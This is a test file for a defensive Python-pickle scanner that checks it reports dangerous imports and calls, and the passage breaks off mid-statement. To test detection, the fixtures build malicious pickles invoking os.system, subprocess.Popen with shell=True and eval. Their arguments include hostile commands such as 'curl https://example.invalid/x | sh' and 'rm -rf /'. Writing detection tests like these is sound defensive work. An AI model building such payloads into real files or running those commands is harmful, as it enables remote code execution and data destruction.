/**
 * The pickle machine, row by row of THREATS.md "Pickle machine behaviours":
 * every import and call named for each opcode, STACK_GLOBAL resolved from
 * every string opcode and from the memo, unresolvable operands reported,
 * errors that keep what came before, back-to-back pickles, framing,
 * protocol and opcode errors, large payloads skipped, evidence offsets.
 */
import { describe, expect, it } from 'vitest';
import { createPickleMachine, PICKLE_MACHINE_LIMITS } from '../../src/pickle/machine.ts';
import type { PickleCall, PickleValue } from '../../src/pickle/types.ts';
import * as b from '../builders/pickle.ts';
import { importNames, scan } from './scan-helpers.ts';

const { op } = b;

function stringValue(value: PickleValue | undefined): string | undefined {
  return value?.kind === 'string' ? value.value : undefined;
}

function onlyCall(calls: PickleCall[], opcodeName: string): PickleCall {
  const matching = calls.filter((call) => call.opcodeName === opcodeName);
  expect(matching).toHaveLength(1);
  return matching[0];
}

describe('imports and calls for each opcode', () => {
  const cases: { name: string; bytes: Uint8Array; importOpcode: string; callOpcode: string; args: string[] }[] = [
    {
      name: 'GLOBAL + REDUCE (protocol 0-3)',
      bytes: b.pickle(b.global('os', 'system'), b.mark(), b.string('id'), b.tuple(), b.reduce(), b.stop()),
      importOpcode: 'GLOBAL',
      callOpcode: 'REDUCE',
      args: ['id'],
    },
    {
      name: 'STACK_GLOBAL + REDUCE (protocol 4-5)',
      bytes: b.pickle(b.proto(4), b.shortBinUnicode('os'), b.shortBinUnicode('system'), b.stackGlobal(), b.shortBinUnicode('id'), b.tuple1(), b.reduce(), b.stop()),
      importOpcode: 'STACK_GLOBAL',
      callOpcode: 'REDUCE',
      args: ['id'],
    },
    {
      name: 'INST',
      bytes: b.pickle(b.mark(), b.string('id'), b.inst('os', 'system'), b.stop()),
      importOpcode: 'INST',
      callOpcode: 'INST',
      args: ['id'],
    },
    {
      name: 'OBJ',
      bytes: b.pickle(b.mark(), b.global('os', 'system'), b.binunicode('id'), b.obj(), b.stop()),
      importOpcode: 'GLOBAL',
      callOpcode: 'OBJ',
      args: ['id'],
    },
    {
      name: 'NEWOBJ',
      bytes: b.pickle(b.proto(2), b.global('os', 'system'), b.binunicode('id'), b.tuple1(), b.newobj(), b.stop()),
      importOpcode: 'GLOBAL',
      callOpcode: 'NEWOBJ',
      args: ['id'],
    },
    {
      name: 'NEWOBJ_EX',
      bytes: b.pickle(b.proto(4), b.global('os', 'system'), b.binunicode('id'), b.tuple1(), b.emptyDict(), b.newobjEx(), b.stop()),
      importOpcode: 'GLOBAL',
      callOpcode: 'NEWOBJ_EX',
      args: ['id'],
    },
  ];

  it.each(cases)('$name names the import and the call', ({ bytes, importOpcode, callOpcode, args }) => {
    const result = scan(bytes);
    expect(result.errors).toEqual([]);
    expect(result.imports).toHaveLength(1);
    expect(result.imports[0]).toMatchObject({ module: 'os', name: 'system', resolved: true, opcodeName: importOpcode });
    const call = onlyCall(result.calls, callOpcode);
    expect(call.callable).toEqual({ module: 'os', name: 'system' });
    expect(call.args?.map(stringValue)).toEqual(args);
    expect(result.pickles[0].result).toMatchObject({ kind: 'call', callIndex: call.index, callable: { module: 'os', name: 'system' } });
  });

  it('NEWOBJ_EX reports its keyword arguments with their literal values', () => {
    const kwargs = b.pickle(b.emptyDict(), b.mark(), b.shortBinUnicode('args'), b.shortBinUnicode('id'), b.shortBinUnicode('shell'), b.newTrue(), b.setitems());
    const result = scan(b.pickle(b.proto(4), b.global('subprocess', 'Popen'), b.emptyTuple(), kwargs, b.newobjEx(), b.stop()));
    expect(onlyCall(result.calls, 'NEWOBJ_EX').kwargs).toEqual({
      kind: 'dict',
      index: 0,
      length: 2,
      complete: true,
      entries: [
        [{ kind: 'string', value: 'args', offset: 25, length: 4, truncated: false, kept: true }, { kind: 'string', value: 'id', offset: 31, length: 2, truncated: false, kept: true }],
        [{ kind: 'string', value: 'shell', offset: 35, length: 5, truncated: false, kept: true }, { kind: 'bool', value: true }],
      ],
    });
  });

  it('dict contents: DICT and SETITEM are kept, a memoised copy is marked incomplete', () => {
    const bytes = b.pickle(
      b.proto(2),
      b.global('m', 'f'),
      b.mark(),
      b.mark(), b.shortBinUnicode('a'), b.binint1(1), b.dict(),
      b.emptyDict(), b.binput(0), b.shortBinUnicode('b'), b.binint1(2), b.setitem(),
      b.binget(0),
      b.tuple(),
      b.reduce(),
      b.stop(),
    );
    const args = scan(bytes).calls[0].args ?? [];
    expect(args.map((value) => (value.kind === 'dict' ? [value.length, value.entries.length, value.complete] : value.kind))).toEqual([
      [1, 1, true],
      [1, 1, true],
      [0, 0, false],
    ]);
  });

  it('BUILD is a call on the object, naming the class that made it', () => {
    const result = scan(
      b.pickle(b.proto(2), b.global('collections', 'OrderedDict'), b.emptyTuple(), b.reduce(), b.shortBinUnicode('state'), b.build(), b.stop()),
    );
    const build = onlyCall(result.calls, 'BUILD');
    expect(build.callable).toEqual({ module: 'collections', name: 'OrderedDict' });
    expect(build.callee).toMatchObject({ kind: 'call', callIndex: 0 });
    expect(build.args?.map(stringValue)).toEqual(['state']);
  });

  it('BUILD on a global itself names that global', () => {
    const result = scan(b.pickle(b.global('os', 'environ'), b.emptyDict(), b.build(), b.stop()));
    expect(onlyCall(result.calls, 'BUILD').callable).toEqual({ module: 'os', name: 'environ' });
  });

  it.each([
    ['SETITEM', b.pickle(b.global('sys', 'modules'), b.shortBinUnicode('os'), b.none(), b.setitem(), b.stop()), ['os', undefined]],
    ['SETITEMS', b.pickle(b.global('sys', 'modules'), b.mark(), b.shortBinUnicode('a'), b.none(), b.setitems(), b.stop()), ['a', undefined]],
    ['APPEND', b.pickle(b.global('sys', 'path'), b.shortBinUnicode('/tmp/evil'), b.append(), b.stop()), ['/tmp/evil']],
    ['APPENDS', b.pickle(b.global('sys', 'path'), b.mark(), b.shortBinUnicode('/tmp/evil'), b.appends(), b.stop()), ['/tmp/evil']],
    ['ADDITEMS', b.pickle(b.global('builtins', 'set'), b.mark(), b.shortBinUnicode('x'), b.additems(), b.stop()), ['x']],
  ])('%s on a global is reported as a state change of that global', (opcodeName, bytes, args) => {
    const result = scan(bytes);
    const call = onlyCall(result.calls, opcodeName);
    expect(call.callee.kind).toBe('global');
    expect(call.args?.map(stringValue)).toEqual(args);
  });

  it('SETITEM(S) and APPEND(S) on plain literal containers are not calls', () => {
    const result = scan(
      b.pickle(b.emptyDict(), b.shortBinUnicode('k'), b.none(), b.setitem(), b.emptyList(), b.none(), b.append(), b.mark(), b.none(), b.appends(), b.pop(), b.stop()),
    );
    expect(result.calls).toEqual([]);
    expect(result.errors).toEqual([]);
  });

  it('a discarded call result (OBJ then POP) is still a call', () => {
    const result = scan(b.pickle(b.mark(), b.global('os', 'system'), b.string('id'), b.obj(), b.pop(), b.none(), b.stop()));
    expect(onlyCall(result.calls, 'OBJ').callable).toEqual({ module: 'os', name: 'system' });
    expect(result.pickles[0].result).toEqual({ kind: 'none' });
  });

  it('a call whose callee is the result of another call has no callable but says so', () => {
    const bytes = b.pickle(
      b.proto(2),
      b.call(b.global('builtins', 'getattr'), b.global('builtins', '__builtins__'), b.binunicode('eval')),
      b.binunicode('1+1'),
      b.tuple1(),
      b.reduce(),
      b.stop(),
    );
    const result = scan(bytes);
    const outer = result.calls[1];
    expect(outer.callable).toBeNull();
    expect(outer.callee).toMatchObject({ kind: 'call', callIndex: 0, callable: { module: 'builtins', name: 'getattr' } });
    expect(outer.args?.map(stringValue)).toEqual(['1+1']);
  });
});

describe('STACK_GLOBAL operands', () => {
  const stringOpcodes: [string, (text: string) => Uint8Array][] = [
    ['STRING', (text) => b.string(text)],
    ['STRING with escapes', (text) => b.string([...text].map((character) => `\\x${character.charCodeAt(0).toString(16)}`).join(''))],
    ['STRING double-quoted', (text) => b.string(text, '"')],
    ['BINSTRING', b.binstring],
    ['SHORT_BINSTRING', b.shortBinstring],
    ['UNICODE', b.unicode],
    ['BINUNICODE', b.binunicode],
    ['SHORT_BINUNICODE', b.shortBinUnicode],
    ['BINUNICODE8', b.binunicode8],
  ];

  it.each(stringOpcodes)('resolves operands pushed by %s', (_, push) => {
    const result = scan(b.pickle(b.proto(4), push('os'), push('system'), b.stackGlobal(), b.stop()));
    expect(result.errors).toEqual([]);
    expect(result.imports).toHaveLength(1);
    expect(result.imports[0]).toMatchObject({ module: 'os', name: 'system', resolved: true });
  });

  it('resolves UNICODE \\u escapes', () => {
    const result = scan(b.pickle(b.unicode('os'), b.pickle([op.OP_UNICODE], new TextEncoder().encode('sys\\u0074em\n')), b.stackGlobal(), b.stop()));
    expect(importNames(result)).toEqual(['os.system']);
  });

  const memoRoutes: [string, Uint8Array, Uint8Array][] = [
    ['PUT/GET (text keys)', b.pickle(b.put(7), b.pop(), b.shortBinUnicode('system'), b.put('1_0')), b.pickle(b.get(7), b.get(10))],
    ['BINPUT/BINGET', b.pickle(b.binput(1), b.pop(), b.shortBinUnicode('system'), b.binput(2)), b.pickle(b.binget(1), b.binget(2))],
    ['LONG_BINPUT/LONG_BINGET', b.pickle(b.longBinput(70000), b.pop(), b.shortBinUnicode('system'), b.longBinput(3)), b.pickle(b.longBinget(70000), b.longBinget(3))],
    ['MEMOIZE/BINGET', b.pickle(b.memoize(), b.pop(), b.shortBinUnicode('system'), b.memoize()), b.pickle(b.binget(0), b.binget(1))],
  ];

  it.each(memoRoutes)('resolves operands fetched from the memo by %s', (_, store, fetch) => {
    const bytes = b.pickle(b.proto(4), b.shortBinUnicode('os'), store, b.pop(), fetch, b.stackGlobal(), b.stop());
    const result = scan(bytes);
    expect(result.errors).toEqual([]);
    expect(result.imports[0]).toMatchObject({ module: 'os', name: 'system', resolved: true });
  });

  it('MEMOIZE numbers entries by how many keys are stored, as CPython does', () => {
    const bytes = b.pickle(b.proto(4), b.shortBinUnicode('x'), b.binput(5), b.pop(), b.shortBinUnicode('os'), b.memoize(), b.pop(), b.binget(1), b.shortBinUnicode('system'), b.stackGlobal(), b.stop());
    expect(importNames(scan(bytes))).toEqual(['os.system']);
  });

  it('a call result as module is an unresolved import, not a silent pass', () => {
    const bytes = b.pickle(b.proto(4), b.call(b.global('builtins', 'str'), b.shortBinUnicode('os')), b.shortBinUnicode('system'), b.stackGlobal(), b.stop());
    const result = scan(bytes);
    const unresolved = result.imports.find((entry) => entry.opcodeName === 'STACK_GLOBAL');
    expect(unresolved).toMatchObject({ resolved: false, module: '', name: 'system' });
    expect(unresolved?.unresolvedReason).toContain('call result #0');
    expect(result.errors).toEqual([]);
  });

  it('a missing memo key gives an error and an unresolved import', () => {
    const result = scan(b.pickle(b.proto(4), b.binget(9), b.shortBinUnicode('system'), b.stackGlobal(), b.stop()));
    expect(result.errors.map((error) => error.code)).toEqual(['memo-missing']);
    expect(result.errors[0].message).toContain('memo key 9');
    expect(result.imports).toHaveLength(1);
    expect(result.imports[0]).toMatchObject({ resolved: false, name: 'system', afterError: true });
  });

  it('a non-string memo value gives an error and an unresolved import', () => {
    const result = scan(b.pickle(b.proto(4), b.binint1(5), b.binput(0), b.binget(0), b.shortBinUnicode('system'), b.stackGlobal(), b.stop()));
    expect(result.errors.map((error) => error.code)).toEqual(['stack-global-type']);
    expect(result.imports[0]).toMatchObject({ resolved: false });
    expect(result.imports[0].unresolvedReason).toContain('an int');
  });

  it('stack underflow gives an error and an unresolved import', () => {
    const result = scan(b.pickle(b.proto(4), b.shortBinUnicode('system'), b.stackGlobal(), b.stop()));
    expect(result.errors.map((error) => error.code)).toEqual(['stack-underflow']);
    expect(result.imports[0]).toMatchObject({ resolved: false, module: '', name: 'system' });
    expect(result.imports[0].unresolvedReason).toContain('underflow');
  });

  it('operands behind a MARK are out of reach (CPython fences the stack at MARK)', () => {
    const result = scan(b.pickle(b.proto(4), b.shortBinUnicode('os'), b.mark(), b.shortBinUnicode('system'), b.stackGlobal(), b.stop()));
    expect(result.errors.map((error) => error.code)).toContain('stack-underflow');
    expect(result.imports[0].resolved).toBe(false);
  });

  it('the memo starts empty for every pickle of a stream', () => {
    const result = scan(b.pickle(b.shortBinUnicode('os'), b.binput(0), b.stop(), b.binget(0), b.stop()));
    expect(result.errors).toMatchObject([{ code: 'memo-missing', pickleIndex: 1 }]);
  });
});

describe('copyreg extensions', () => {
  it.each([
    ['EXT1', b.ext1(7), 7],
    ['EXT2', b.ext2(0x1234), 0x1234],
    ['EXT4', b.ext4(0x12345678), 0x12345678],
  ])('%s is an unresolved import with its code', (opcodeName, ext, code) => {
    const result = scan(b.pickle(b.proto(2), ext, b.emptyTuple(), b.reduce(), b.stop()));
    expect(result.imports).toMatchObject([{ opcodeName, resolved: false, extensionCode: code }]);
    expect(result.calls[0].callee).toMatchObject({ kind: 'extension', code });
    expect(result.errors).toEqual([]);
  });

  it('a code of 0 is an error (CPython refuses it)', () => {
    const result = scan(b.pickle(b.proto(2), b.ext1(0), b.stop()));
    expect(result.errors.map((error) => error.code)).toEqual(['extension-code']);
    expect(result.imports).toHaveLength(1);
  });
});

describe('what came before an error is live', () => {
  const payload = b.pickle(b.proto(2), b.call(b.global('os', 'system'), b.binunicode('id')));

  it.each([
    ['an unknown opcode', b.raw(0xff), 'unknown-opcode'],
    ['a truncated stream', b.pickle(), 'truncated'],
    ['a truncated opcode argument', b.raw(op.OP_BININT, 1, 2), 'truncated'],
    ['a truncated payload', b.binbytes8Header(1000), 'truncated'],
    ['a negative BINSTRING length', b.binstringHeader(-1), 'negative-length'],
    ['an unsupported protocol', b.pickle(b.proto(6), b.stop()), 'unsupported-protocol'],
  ])('payload then %s: import and call reported, plus the error', (_, tail, code) => {
    const result = scan(b.pickle(payload, tail));
    expect(importNames(result)).toEqual(['os.system']);
    expect(result.calls).toHaveLength(1);
    expect(result.calls[0].afterError).toBe(false);
    expect(result.errors.map((error) => error.code)).toEqual([code]);
  });

  it('an unknown opcode halts the scan and says where', () => {
    const bytes = b.pickle(payload, b.raw(0xff), b.global('never', 'seen'), b.stop());
    const result = scan(bytes);
    expect(result.errors[0]).toMatchObject({ code: 'unknown-opcode', offset: payload.length, halted: true });
    expect(result.errors[0].message).toBe(`unknown opcode 0xff at offset ${payload.length}`);
    expect(importNames(result)).toEqual(['os.system']);
    expect(result.unscanned).toEqual({ offset: payload.length, length: bytes.length - payload.length, reason: 'error' });
  });

  it('after an error that does not desynchronise the stream, later imports are reported as after the error', () => {
    const result = scan(b.pickle(b.proto(6), b.global('os', 'system'), b.stop()));
    expect(result.errors[0].code).toBe('unsupported-protocol');
    expect(result.protocols).toMatchObject([{ version: 6 }]);
    expect(result.imports[0]).toMatchObject({ module: 'os', afterError: true });
  });

  it('the truncation error gives the opcode and the bytes missing', () => {
    const result = scan(b.pickle(payload, b.binbytes8Header(1000), new Uint8Array(10)));
    expect(result.errors[0]).toMatchObject({ code: 'truncated', offset: payload.length });
    expect(result.errors[0].message).toContain('BINBYTES8');
    expect(result.errors[0].message).toContain('990 more bytes');
  });

  it('an empty stream is an error', () => {
    expect(scan(new Uint8Array(0)).errors.map((error) => error.code)).toEqual(['empty-stream']);
  });
});

describe('several pickles in one stream', () => {
  it('scans past the first STOP and reports each pickle', () => {
    const first = b.pickle(b.proto(2), b.binint1(1), b.stop());
    const second = b.pickle(b.global('os', 'system'), b.string('id'), b.tuple1(), b.reduce(), b.stop());
    const result = scan(b.pickle(first, second));
    expect(result.pickleCount).toBe(2);
    expect(result.pickles.map((pickle) => [pickle.offset, pickle.stopOffset])).toEqual([
      [0, first.length - 1],
      [first.length, first.length + second.length - 1],
    ]);
    expect(result.imports[0]).toMatchObject({ module: 'os', name: 'system', pickleIndex: 1, protocol: 0 });
    expect(result.pickles[0].result).toEqual({ kind: 'int', value: 1, exact: true });
  });

  it('bytes after the last STOP that are no pickle are trailing data, not errors', () => {
    const result = scan(b.pickle(b.binint1(1), b.stop(), b.raw(0x00, 0xde, 0xad)));
    expect(result.errors).toEqual([]);
    expect(result.unscanned).toMatchObject({ offset: 3, length: 3, reason: 'trailing-data' });
  });

  it('trailing bytes that start like an opcode but name nothing are trailing data too', () => {
    const result = scan(b.pickle(b.binint1(1), b.stop(), b.none(), b.raw(0x00, 0x01)));
    expect(result.errors).toEqual([]);
    expect(result.pickles).toHaveLength(1);
    expect(result.unscanned).toMatchObject({ offset: 3, length: 3, reason: 'trailing-data' });
  });

  it('a broken pickle after the first that imports something is reported with its error', () => {
    const result = scan(b.pickle(b.binint1(1), b.stop(), b.global('os', 'system'), b.raw(0x00)));
    expect(importNames(result)).toEqual(['os.system']);
    expect(result.errors.map((error) => error.code)).toEqual(['unknown-opcode']);
  });

  it('maxPickles stops after that many pickles (legacy torch)', () => {
    const result = scan(b.pickle(b.binint1(1), b.stop(), b.binint1(2), b.stop(), b.global('os', 'system'), b.stop()), { maxPickles: 2 });
    expect(result.pickleCount).toBe(2);
    expect(result.imports).toEqual([]);
    expect(result.unscanned).toEqual({ offset: 6, length: 12, reason: 'max-pickles' });
  });
});

describe('framing', () => {
  it('a FRAME that matches its contents has no problem', () => {
    const result = scan(b.pickle(b.proto(4), b.framed(b.none(), b.stop())));
    expect(result.frames).toEqual([{ offset: 2, length: 2, contentOffset: 11, pickleIndex: 0, problems: [] }]);
    expect(result.errors).toEqual([]);
  });

  it('an opcode that straddles the end of the frame is flagged (and still read, as the C unpickler does)', () => {
    const result = scan(b.pickle(b.proto(4), b.frame(3), b.shortBinUnicode('os'), b.shortBinUnicode('system'), b.stackGlobal(), b.stop()));
    expect(result.frames[0].problems).toEqual(['straddled']);
    expect(importNames(result)).toEqual(['os.system']);
  });

  it('a FRAME before the end of the current frame is flagged', () => {
    const result = scan(b.pickle(b.proto(4), b.frame(12), b.none(), b.framed(b.pop(), b.none()), b.stop()));
    expect(result.frames.map((frame) => frame.problems)).toEqual([['nested'], []]);
    expect(result.errors).toEqual([]);
  });

  it('a FRAME longer than the rest of the stream is an error at the FRAME', () => {
    const result = scan(b.pickle(b.proto(4), b.frame(100), b.none(), b.stop()));
    expect(result.frames[0].problems).toEqual(['truncated', 'stop-inside']);
    expect(result.errors).toMatchObject([{ code: 'frame-truncated', offset: 2, pickleIndex: 0 }]);
    expect(result.errors[0].message).toBe('FRAME declares 100 bytes but only 2 follow, at offset 2');
  });

  it('bytes of a frame after its STOP are skipped, and the next pickle starts after the frame', () => {
    const result = scan(b.pickle(b.proto(4), b.frame(4), b.none(), b.stop(), b.raw(0xff, 0xff), b.global('os', 'system'), b.stop()));
    expect(result.frames[0].problems).toEqual(['stop-inside']);
    expect(result.errors).toEqual([]);
    expect(result.imports).toMatchObject([{ module: 'os', name: 'system', pickleIndex: 1 }]);
  });

  it('a large payload written outside the frames is no mismatch', () => {
    const result = scan(b.pickle(b.proto(4), b.framed(b.emptyList()), b.binbytes8(new Uint8Array(100)), b.framed(b.append(), b.stop())));
    expect(result.frames.flatMap((frame) => frame.problems)).toEqual([]);
    expect(result.errors).toEqual([]);
  });
});

describe('persistent ids', () => {
  it('records PERSID text ids', () => {
    const result = scan(b.pickle(b.persid('storage 0'), b.stop()));
    expect(result.persistentIds).toMatchObject([{ opcodeName: 'PERSID', index: 0, id: { kind: 'string', value: 'storage 0' } }]);
    expect(result.pickles[0].result).toEqual({ kind: 'persistent', persistentIndex: 0 });
  });

  it('records the torch BINPERSID tuple: storage type, key, location, numel', () => {
    const bytes = b.pickle(
      b.proto(2),
      b.mark(),
      b.binunicode('storage'),
      b.global('torch', 'FloatStorage'),
      b.binunicode('0'),
      b.binunicode('cpu'),
      b.binint1(6),
      b.tuple(),
      b.binpersid(),
      b.stop(),
    );
    const result = scan(bytes);
    expect(result.persistentIds[0].id).toMatchObject({
      kind: 'tuple',
      length: 5,
      complete: true,
      items: [
        { kind: 'string', value: 'storage' },
        { kind: 'global', module: 'torch', name: 'FloatStorage', resolved: true },
        { kind: 'string', value: '0' },
        { kind: 'string', value: 'cpu' },
        { kind: 'int', value: 6, exact: true },
      ],
    });
  });
});

describe('payloads and evidence', () => {
  it('string arguments of calls are recorded with the offset and length of their bytes', () => {
    const command = 'curl https://example.invalid/x | sh';
    const bytes = b.payload('os', 'system', command);
    const argument = scan(bytes).calls[0].args?.[0];
    expect(argument).toMatchObject({ kind: 'string', value: command, truncated: false });
    if (argument?.kind !== 'string') throw new Error('expected a string');
    expect(new TextDecoder().decode(bytes.subarray(argument.offset, argument.offset + argument.length))).toBe(command);
  });

  it('bytes arguments (a nested pickle.loads) are recorded by offset and length', () => {
    const inner = b.payload('os', 'system', 'id');
    const bytes = b.pickle(b.proto(3), b.global('pickle', 'loads'), b.binbytes(inner), b.tuple1(), b.reduce(), b.stop());
    const argument = scan(bytes).calls[0].args?.[0];
    expect(argument?.kind).toBe('bytes');
    if (argument?.kind !== 'bytes') throw new Error('expected bytes');
    expect(bytes.subarray(argument.offset, argument.offset + argument.length)).toEqual(inner);
  });

  it('offsets include baseOffset', () => {
    const result = scan(b.payload('os', 'system', 'id'), { baseOffset: 1000 });
    expect(result.imports[0].offset).toBe(1002);
    expect(result.calls[0].args?.[0]).toMatchObject({ offset: 1019 });
    expect(result.pickles[0].offset).toBe(1000);
  });

  it('a 50 MB BINBYTES8 is skipped and what follows is still read', () => {
    const size = 50 * 1024 * 1024;
    const machine = createPickleMachine();
    machine.push(b.pickle(b.proto(4), b.binbytes8Header(size)));
    const chunk = new Uint8Array(4 * 1024 * 1024);
    for (let sent = 0; sent < size; sent += chunk.length) machine.push(chunk.subarray(0, Math.min(chunk.length, size - sent)));
    machine.push(b.pickle(b.pop(), b.global('os', 'system'), b.stop()));
    const result = machine.finish();
    expect(result.errors).toEqual([]);
    expect(importNames(result)).toEqual(['os.system']);
    expect(result.bytesScanned).toBe(2 + 9 + size + b.pickle(b.pop(), b.global('os', 'system'), b.stop()).length);
  });

  it('a long string is kept as a prefix and flagged truncated', () => {
    const long = 'a'.repeat(5000);
    const result = scan(b.pickle(b.proto(4), b.shortBinUnicode('os'), b.binunicode(long), b.stackGlobal(), b.stop()));
    expect(result.imports[0]).toMatchObject({ module: 'os', resolved: true, truncated: true });
    expect(result.imports[0].name).toBe('a'.repeat(1024));
  });

  it('tuple arguments nest (tensor sizes) within the depth cap', () => {
    const bytes = b.pickle(b.proto(2), b.global('m', 'f'), b.binint1(2), b.binint1(3), b.tuple2(), b.tuple1(), b.reduce(), b.stop());
    expect(scan(bytes).calls[0].args).toEqual([
      { kind: 'tuple', length: 2, complete: true, items: [
        { kind: 'int', value: 2, exact: true },
        { kind: 'int', value: 3, exact: true },
      ] },
    ]);
  });

  it('numbers of every opcode are decoded', () => {
    const bytes = b.pickle(
      b.proto(2),
      b.global('m', 'f'),
      b.mark(),
      b.int('01'),
      b.int('-42'),
      b.long('12345678901L'),
      b.binint(-7),
      b.binint2(65535),
      b.long1(-(2n ** 40n)),
      b.long4(255n),
      b.binfloat(1.5),
      b.float('2.5'),
      b.tuple(),
      b.reduce(),
      b.stop(),
    );
    expect(scan(bytes).calls[0].args).toEqual([
      { kind: 'bool', value: true },
      { kind: 'int', value: -42, exact: true },
      { kind: 'int', value: 12345678901, exact: true },
      { kind: 'int', value: -7, exact: true },
      { kind: 'int', value: 65535, exact: true },
      { kind: 'int', value: -(2 ** 40), exact: true },
      { kind: 'int', value: 255, exact: true },
      { kind: 'float', value: 1.5 },
      { kind: 'float', value: null },
    ]);
  });
});

describe('dict entries name what goes into state dicts', () => {
  it('records string keys whose values are calls', () => {
    const bytes = b.pickle(
      b.proto(2),
      b.global('collections', 'OrderedDict'),
      b.emptyTuple(),
      b.reduce(),
      b.mark(),
      b.binunicode('layer.weight'),
      b.global('torch._utils', '_rebuild_tensor_v2'),
      b.emptyTuple(),
      b.reduce(),
      b.setitems(),
      b.stop(),
    );
    const result = scan(bytes);
    expect(result.dictEntries).toMatchObject([{ container: { kind: 'call', index: 0 }, key: 'layer.weight', value: { kind: 'call', index: 1 } }]);
  });
});

describe('limits become statuses, never crashes', () => {
  it('MARKs nested beyond the limit are reported and the state is flagged degraded', () => {
    const marks = new Uint8Array(70_000).fill(op.OP_MARK);
    const result = scan(b.pickle(marks, b.global('os', 'system'), b.stop()));
    expect(result.limits.map((limit) => limit.code)).toContain('marks');
    expect(result.imports[0]).toMatchObject({ module: 'os', name: 'system', degraded: true });
  });

  it('stack items beyond the limit are counted and their values unknown', () => {
    const nones = new Uint8Array(70_000).fill(op.OP_NONE);
    const result = scan(b.pickle(b.shortBinUnicode('os'), nones, b.shortBinUnicode('system'), b.stackGlobal(), b.stop()));
    expect(result.limits.map((limit) => limit.code)).toEqual(['stack']);
    expect(result.imports[0]).toMatchObject({ resolved: false });
    expect(result.errors).toEqual([]);
  });

  it('strings beyond the heap budget are not kept: a later STACK_GLOBAL is unresolved, with the limit reported', () => {
    const filler = b.pickle(b.binunicode('f'.repeat(1024)), b.pop());
    const count = Math.ceil(PICKLE_MACHINE_LIMITS.maxHeapBytes / 1024) + 10;
    const machine = createPickleMachine();
    machine.push(b.proto(4));
    const batch = new Uint8Array(filler.length * 1024);
    for (let index = 0; index < 1024; index++) batch.set(filler, index * filler.length);
    for (let sent = 0; sent < count; sent += 1024) machine.push(batch);
    // Small strings fill what the large ones left over, so the heap is exhausted to the byte.
    for (let index = 0; index < 200; index++) machine.push(b.pickle(b.shortBinUnicode('ab'), b.pop()));
    machine.push(b.pickle(b.shortBinUnicode('os'), b.shortBinUnicode('system'), b.stackGlobal(), b.stop()));
    const result = machine.finish();
    expect(result.limits.map((limit) => limit.code)).toEqual(['heap']);
    expect(result.errors).toEqual([]);
    expect(result.imports[0]).toMatchObject({ resolved: false });
    expect(result.imports[0].unresolvedReason).toContain('heap limit');
  });

  it('a memo key beyond the tracked keys is a limit and reads back as unknown', () => {
    const result = scan(b.pickle(b.shortBinUnicode('os'), b.longBinput(0xfffffff0), b.pop(), b.longBinget(0xfffffff0), b.shortBinUnicode('system'), b.stackGlobal(), b.stop()));
    expect(result.limits.map((limit) => limit.code)).toEqual(['memo']);
    expect(result.errors).toEqual([]);
    expect(result.imports[0].resolved).toBe(false);
  });
});

describe('strings outlive the input window they arrived in', () => {
  // Each push is copied to the same input window in Wasm, so the second push overwrites the bytes of the
  // strings read from the first. The filler makes sure every byte of them is overwritten with other text.
  const filler = b.pickle(...Array.from({ length: 8 }, () => b.pickle(b.shortBinUnicode('ZZZZZZZZZZZZ'), b.pop())));
  const cases: { name: string; first: Uint8Array; second: Uint8Array; check: (result: ReturnType<typeof scan>) => void }[] = [
    {
      name: 'on the stack, then STACK_GLOBAL',
      first: b.pickle(b.proto(4), b.shortBinUnicode('os'), b.shortBinUnicode('system')),
      second: b.pickle(filler, b.stackGlobal(), b.stop()),
      check: (result) => expect(importNames(result)).toEqual(['os.system']),
    },
    {
      name: 'in the memo, then fetched for STACK_GLOBAL',
      first: b.pickle(b.proto(4), b.shortBinUnicode('os'), b.memoize(), b.pop(), b.binunicode('system'), b.binput(5), b.pop()),
      second: b.pickle(filler, b.binget(0), b.binget(5), b.stackGlobal(), b.stop()),
      check: (result) => expect(importNames(result)).toEqual(['os.system']),
    },
    {
      name: 'in a tuple, then the call arguments',
      first: b.pickle(b.proto(2), b.global('os', 'system'), b.shortBinUnicode('rm -rf /'), b.tuple1()),
      second: b.pickle(filler, b.reduce(), b.stop()),
      check: (result) => expect(onlyCall(result.calls, 'REDUCE').args?.map(stringValue)).toEqual(['rm -rf /']),
    },
    {
      name: 'duplicated, then a dict key',
      first: b.pickle(b.proto(2), b.emptyDict(), b.shortBinstring('layer.weight'), b.dup(), b.pop()),
      second: b.pickle(filler, b.global('torch._utils', '_rebuild_tensor_v2'), b.emptyTuple(), b.reduce(), b.setitem(), b.stop()),
      check: (result) => expect(result.dictEntries).toMatchObject([{ key: 'layer.weight', value: { kind: 'call' } }]),
    },
    {
      name: 'the result of STOP',
      first: b.pickle(b.proto(4), b.shortBinUnicode('result')),
      second: b.pickle(filler, b.stop()),
      check: (result) => expect(stringValue(result.pickles[0].result ?? undefined)).toBe('result'),
    },
  ];

  it.each(cases)('$name', ({ first, second, check }) => {
    const machine = createPickleMachine();
    machine.push(first);
    machine.push(second);
    const result = machine.finish();
    expect(result.errors).toEqual([]);
    check(result);
    expect(result).toEqual(scan(b.pickle(first, second)));
  });
});

describe('streaming contract', () => {
  it('push after finish fails fast', () => {
    const machine = createPickleMachine();
    machine.finish();
    expect(() => machine.push(b.stop())).toThrow(/after finish/);
  });

  it('finish twice fails fast', () => {
    const machine = createPickleMachine();
    machine.finish();
    expect(() => machine.finish()).toThrow(/twice/);
  });

  it('rejects a negative baseOffset', () => {
    expect(() => createPickleMachine({ baseOffset: -1 })).toThrow(RangeError);
  });

  it('reports the first offset of each opcode', () => {
    const result = scan(b.pickle(b.proto(2), b.none(), b.none(), b.stop()));
    expect(result.opcodeFirstSeen.map((seen) => [seen.opcodeName, seen.offset])).toEqual([
      ['PROTO', 0],
      ['NONE', 2],
      ['STOP', 4],
    ]);
  });
});

describe('raw bytes after a BUILD (joblib NumpyArrayWrapper)', () => {
  const wrapper = { module: 'joblib.numpy_pickle', name: 'NumpyArrayWrapper' };
  const state = b.pickle(b.emptyDict(), b.mark(), b.shortBinUnicode('shape'), b.binint1(4), b.tuple1(), b.shortBinUnicode('order'), b.shortBinUnicode('C'), b.setitems());
  const head = b.pickle(b.proto(2), b.emptyList(), b.global(wrapper.module, wrapper.name), b.emptyTuple(), b.newobj(), state, b.build());
  // Array bytes that are no valid opcodes, then the rest of the pickle with a payload.
  const raw = Uint8Array.from([0xff, 0x00, 0xfe, 0x01, 0x63, 0x0a, 0x0a, 0x2e]);
  const tail = b.pickle(b.append(), b.global('os', 'system'), b.pop(), b.stop());

  it('without the pause, the array bytes end the scan with an error', () => {
    const result = scan(b.pickle(head, raw, tail));
    expect(result.errors[0].code).toBe('unknown-opcode');
    expect(importNames(result)).toEqual(['joblib.numpy_pickle.NumpyArrayWrapper']);
  });

  it.each([
